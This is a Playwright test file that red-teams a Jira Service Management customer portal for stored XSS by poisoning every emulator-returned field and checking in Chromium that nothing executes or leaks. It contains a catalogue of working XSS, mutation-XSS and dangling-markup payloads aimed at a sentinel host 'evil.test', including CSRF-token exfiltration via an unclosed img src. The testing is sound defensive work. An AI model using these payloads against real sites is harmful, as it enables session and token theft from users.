// Stored XSS and HTML injection through everything Atlassian returns, proven in a real browser. The
// JSM content is written by agents, by customers of other organizations and by site admins, none
// trusted by a customer's browser: every name, text, file name, status, approval, article and
// rendered body the emulator answers is poisoned with markup that runs `alert` or asks a sentinel
// host (`evil.test`), and every page a signed-in customer can reach is opened in Chromium twice:
// with the portal's own CSP, and with CSP bypassed, so that the escaping and the sanitizer are shown
// to hold on their own (CSP is defence in depth, not the defence). No script may run, no request may
// leave for another origin (a dangling `<img src='https://evil.test/?` would carry the CSRF token),
// no CSP violation may be reported (markup the CSP had to stop is a sanitizer gap), and the DOM
// holds no handler, no style, no frame, no foreign form and no script or stylesheet without the nonce.
import { expect } from 'chai';
import type { BrowserContext, Browser as Chromium, Page } from 'playwright-core';
import { STATUSES } from '../../dev/jsm-emulator/workflow.js';
import { launchChromium } from '../../testkit/chromium.js';
import { type Harness, signIn, startHarness } from '../../testkit/portal-harness.js';

/** The sentinel: any request to it is a leak. */
const EVIL = 'https://evil.test';

/**
 * Markup that runs or fetches if it reaches a page as markup, in every context an escaped value can
 * land in (element text, a quoted attribute, `<title>`, `<textarea>`, `<option>`), tagged with where
 * it came from so a failure names its source.
 */
const poison = (tag: string) =>
  [
    `${tag} `,
    `<img src="${EVIL}/${tag}/img" onerror="alert('${tag}')">`,
    `"><svg onload="alert('${tag}')">`,
    `'><script>alert('${tag}')</script>`,
    `</title></textarea></option></select></style><script>alert('${tag}')</script>`,
    `<a href="javascript:alert('${tag}')">x</a>`,
    `<style>@import "${EVIL}/${tag}/css";</style>`,
    `{{'${tag}'}}\${alert('${tag}')}`,
    // Dangling markup last: an unclosed attribute would swallow the page after it, CSRF token included.
    `<img src='${EVIL}/${tag}/dangling?`,
  ].join('');

/** Raw HTML an agent, an API user or Jira's `{html}` macro can put in a rendered comment or article. */
const HOSTILE_HTML = (tag: string) =>
  [
    `<p>${tag} kept</p>`,
    `<script>alert('${tag}-script')</script>`,
    `<iframe srcdoc="<script>parent.alert('${tag}-srcdoc')</script>"></iframe>`,
    `<a href="javascript:alert('${tag}-link')">js</a>`,
    `<a href="jav&#x09;ascript:alert('${tag}-entity')">js</a>`,
    `<form action="${EVIL}/${tag}/form"><input name="q" autofocus onfocus="alert('${tag}-focus')"><button>go</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}/${tag}/refresh">`,
    `<base href="${EVIL}/${tag}/base/">`,
    `<svg><animate onbegin="alert('${tag}-animate')" attributeName="x" dur="1s"></animate></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('${tag}-math')&gt;"></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=alert('${tag}-noscript')>"></p></noscript>`,
    `<p style="background:url(${EVIL}/${tag}/style-url)">styled</p>`,
    `<style>p{background:url(${EVIL}/${tag}/style-tag)}</style>`,
    `<font color="red" style="background-image:url(${EVIL}/${tag}/color)">{color:red}</font>`,
    `<span class="image-wrap"><img src="javascript:alert('${tag}-wiki-image')"></span>`,
    `<img src="${EVIL}/${tag}/plain-img">`,
    `<object data="${EVIL}/${tag}/object"></object><embed src="${EVIL}/${tag}/embed">`,
    `<details open ontoggle="alert('${tag}-toggle')"></details>`,
    `<img src='${EVIL}/${tag}/dangling?`,
  ].join('');

/** The tag of each poisoned source (its prefix): each must show on some page. */
const SOURCES = [
  'user-',
  'org-',
  'desk-',
  'group-',
  'type-name-',
  'type-description-',
  'type-help-',
  'status-',
  'field-label-',
  'field-help-',
  'option-',
  'transition-',
  'article-excerpt-',
  'article-title',
  'article-body-',
  'summary-',
  'description-',
  'approval-',
  'file-html',
  'file-svg',
  'agent-comment',
  'customer-comment',
  'html-macro',
];

/** What the browser saw on one page. */
interface Seen {
  ran: string[];
  violations: string[];
  strays: string[];
}

describe('portal: everything Atlassian returns, rendered in Chromium (stored XSS red team)', function () {
  this.timeout(300_000);
  let h: Harness;
  let chromium: Chromium;
  let requestKey: string;
  /** Every request that left a page for another origin than the portal's. */
  const offsite: string[] = [];

  before(async () => {
    h = await startHarness();
    const state = h.emulator.state;
    for (const user of state.users.values())
      if (user.email !== 'alice@acme.test') user.displayName = poison(`user-${user.email}`);
    for (const org of state.organizations.values()) org.name = poison(`org-${org.id}`);
    for (const desk of state.serviceDesks.values()) {
      desk.projectName = poison(`desk-${desk.id}`);
      for (const group of desk.groups) group.name = poison(`group-${group.id}`);
    }
    for (const type of state.requestTypes.values()) {
      type.name = `Type ${type.id} ${poison(`type-name-${type.id}`)}`;
      type.description = poison(`type-description-${type.id}`);
      type.helpText = HOSTILE_HTML(`type-help-${type.id}`);
      type.customerStatusNames = Object.fromEntries(
        STATUSES.map((s) => [s.name, poison(`status-${s.name}`)]),
      );
      for (const field of type.fields) {
        field.name = poison(`field-label-${field.fieldId}`);
        field.description = poison(`field-help-${field.fieldId}`);
        for (const option of field.options) {
          option.value = poison(`option-${option.id}`);
          for (const child of option.children) child.value = poison(`option-${child.id}`);
        }
      }
    }
    for (const step of state.workflow) step.name = poison(`transition-${step.id}`);
    for (const article of state.articles) {
      article.excerpt = `VPN ${poison(`article-excerpt-${article.id}`)}`;
      article.body = HOSTILE_HTML(`article-body-${article.id}`);
    }
    state.articles.push({
      ...state.articles[0]!,
      id: '9901',
      title: `VPN ${poison('article-title')}`,
    });

    const alice = [...state.users.values()].find((u) => u.email === 'alice@acme.test')!;
    const agent = [...state.users.values()].find((u) => u.kind === 'agent')!;
    const mine = [...state.requests.values()].filter((r) => r.reporterId === alice.accountId);
    const request = mine.find((r) => r.approvals.length > 0) ?? mine[0]!;
    requestKey = request.key;
    for (const r of mine) {
      r.fieldValues['summary'] = poison(`summary-${r.key}`);
      r.fieldValues['description'] = [
        poison(`description-${r.key}`),
        '[Reset|javascript:alert(1)] {html}<img src=x onerror=alert(1)>{html} !javascript:alert(1)!',
        '{color:red}red{color} [x|https://evil.test/wiki-link]',
      ].join('\n\n');
      for (const a of r.approvals) a.name = poison(`approval-${a.id}`);
    }
    request.participantIds = [...new Set([...request.participantIds, agent.accountId])];
    const attachment = (id: string, filename: string, mimeType: string, content: string) => ({
      id,
      filename,
      mimeType,
      content: Buffer.from(content),
      // The customer's own files: a file an agent adds without a comment is not offered (ADR 0375).
      authorId: alice.accountId,
      created: Date.now() - 60_000,
    });
    request.attachments.push(
      attachment('99101', `${poison('file-html')}.html`, 'text/html', `<script>alert('file-html')</script>`),
      attachment(
        '99102',
        `${poison('file-svg')}.svg`,
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('file-svg')"/>`,
      ),
    );
    request.comments.push(
      {
        id: '99201',
        authorId: agent.accountId,
        body: 'agent html',
        public: true,
        created: Date.now() - 50_000,
        attachmentIds: [],
        renderedHtml: HOSTILE_HTML('agent-comment'),
      },
      {
        id: '99202',
        authorId: alice.accountId,
        body: [
          poison('customer-comment'),
          '[Reset|javascript:alert(1)] {html}<img src=x onerror=alert(1)>{html} !javascript:alert(1)!',
          '{color:red}red{color} [x|https://evil.test/wiki-link]',
        ].join('\n\n'),
        public: true,
        created: Date.now() - 40_000,
        attachmentIds: [],
      },
      {
        id: '99203',
        authorId: agent.accountId,
        body: '{html}',
        public: true,
        created: Date.now() - 30_000,
        attachmentIds: [],
        // What Jira's renderer makes of `{html}…{html}`, `{color}` and `!…!` where the macro is on.
        renderedHtml: `<p><font color="red">red</font></p>${HOSTILE_HTML('html-macro')}`,
      },
    );
    chromium = await launchChromium();
  });
  after(async () => {
    await chromium?.close();
    await h?.close();
  });

  /** A tab signed in as alice, with or without the portal's CSP, recording what would betray a payload. */
  async function aliceTab(bypassCSP: boolean): Promise<{ context: BrowserContext; page: Page }> {
    const context = await chromium.newContext({ bypassCSP });
    // A string, not a function: tsx's helpers would not exist in the page.
    await context.addInitScript(`(() => {
      const ran = (what) => { try { (window.top.__xss = window.top.__xss || []).push(String(what)); } catch {} };
      window.alert = window.confirm = window.prompt = window.print = ran;
      window.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        window.__violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
    })();`);
    await context.route('**/*', (route) => {
      const url = route.request().url();
      if (url.startsWith(`${h.url}/`)) return route.continue();
      offsite.push(url);
      return route.fulfill({ status: 404, body: '' });
    });
    const browser = await signIn(h, 'alice@acme.test');
    await context.addCookies([...browser.cookies].map(([name, value]) => ({ name, value, url: h.url })));
    const page = await context.newPage();
    page.on('dialog', (dialog) => {
      offsite.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    return { context, page };
  }

  /** What the loaded page shows of a payload: script run, CSP violations, forbidden DOM. */
  async function inspect(page: Page): Promise<Seen> {
    return page.evaluate((portal) => {
      const w = window as unknown as { __xss?: string[]; __violations?: string[] };
      const strays: string[] = [];
      for (const el of Array.from(document.querySelectorAll('*'))) {
        const name = el.localName;
        if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') strays.push(`<${name}> of another namespace`);
        if (['iframe', 'frame', 'object', 'embed', 'base', 'math', 'svg', 'noscript'].includes(name))
          strays.push(`<${name}>`);
        if ((name === 'script' || name === 'style') && !(el as HTMLElement).nonce)
          strays.push(`<${name}> without the nonce`);
        if (name === 'link' && el.getAttribute('rel') !== 'icon') strays.push('<link>');
        if (name === 'meta' && el.hasAttribute('http-equiv')) strays.push('<meta http-equiv>');
        for (const attr of Array.from(el.attributes)) {
          if (/^on/i.test(attr.name) || attr.name === 'style' || attr.name === 'srcdoc')
            strays.push(`<${name} ${attr.name}>`);
        }
        const url = name === 'a' ? el.getAttribute('href') : name === 'img' ? el.getAttribute('src') : null;
        if (url !== null) {
          const parsed = new URL(url, location.href);
          if (!['http:', 'https:', 'mailto:'].includes(parsed.protocol)) strays.push(`<${name}> to ${url}`);
          if (name === 'img' && parsed.origin !== portal) strays.push(`<img> from ${parsed.origin}`);
        }
        if (name === 'form' && new URL((el as HTMLFormElement).action).origin !== portal)
          strays.push(`<form> to ${(el as HTMLFormElement).action}`);
      }
      return { ran: w.__xss ?? [], violations: w.__violations ?? [], strays };
    }, h.url);
  }

  /** Fails naming what a payload achieved on the page: script run, violations, DOM, requests since `before`. */
  async function expectNothingSince(page: Page, before: number, what: string): Promise<void> {
    expect({ ...(await inspect(page)), offsite: offsite.slice(before) }, what).to.deep.equal({
      ran: [],
      violations: [],
      strays: [],
      offsite: [],
    });
  }

  /**
   * Opens `path`, waits for it to settle and fails naming whatever a payload achieved there; answers
   * the page's text (to show the payloads reached it) and the portal pages it links to (files aside).
   */
  async function expectInert(
    page: Page,
    path: string,
    what: string,
  ): Promise<{ text: string; links: string[] }> {
    const before = offsite.length;
    const res = await page.goto(`${h.url}${path}`, { waitUntil: 'load' });
    expect(res?.status(), `${what}: ${path}`).to.equal(200);
    await expectNothingSince(page, before, `${what}: ${path}`);
    const hrefs = await page.$$eval('main a[href]', (as) => as.map((a) => (a as HTMLAnchorElement).href));
    const links = hrefs.flatMap((href) => {
      // A link that is no URL is judged on its page (inspect), not followed.
      const url = URL.canParse(href) ? new URL(href) : undefined;
      return url?.origin === h.url && !/\/attachment\//.test(url.pathname) ? [url.pathname + url.search] : [];
    });
    // Its text content, not innerText: a lozenge's text-transform would upper-case the tags.
    return { text: (await page.textContent('body')) ?? '', links };
  }

  for (const bypassCSP of [false, true]) {
    const what = bypassCSP ? 'CSP bypassed (escaping and sanitizer alone)' : "the portal's CSP";
    it(`runs nothing and sends nothing elsewhere on any page, with ${what}`, async () => {
      const { context, page } = await aliceTab(bypassCSP);
      try {
        const starts = [
          '/',
          '/?q=VPN',
          '/desk/1',
          '/desk/1?q=Type',
          '/desk/1?q=VPN',
          '/requests',
          `/requests/${requestKey}`,
          '/profile',
        ];
        const opened = new Set(starts);
        let text = '';
        const linked: string[] = [];
        for (const path of starts) {
          const shown = await expectInert(page, path, what);
          text += shown.text;
          linked.push(...shown.links);
        }
        // One step further: articles, raise forms, transitions, the share page.
        for (const path of linked) {
          if (opened.has(path)) continue;
          opened.add(path);
          text += (await expectInert(page, path, what)).text;
        }
        for (const kind of ['/article/', '/create/', '/transition/', '/share'])
          expect(
            [...opened].some((p) => p.includes(kind)),
            kind,
          ).to.equal(true);
        // Every source reached a page, shown as its characters.
        expect(
          SOURCES.filter((source) => !text.includes(source)),
          'sources no page showed',
        ).to.deep.equal([]);
      } finally {
        await context.close();
      }
    });
  }

  it('runs nothing from article titles and excerpts suggested while the summary is typed', async () => {
    const { context, page } = await aliceTab(true);
    try {
      const type = [...h.emulator.state.requestTypes.values()].find((t) => t.serviceDeskId === '1')!;
      await expectInert(page, `/desk/1/create/${type.id}`, 'the raise form');
      const before = offsite.length;
      await page.fill('#fld-summary', 'VPN');
      await page.waitForSelector('#kb-suggest li');
      expect(await page.textContent('#kb-suggest')).to.include('article-title');
      await expectNothingSince(page, before, 'the suggestions');
    } finally {
      await context.close();
    }
  });
});
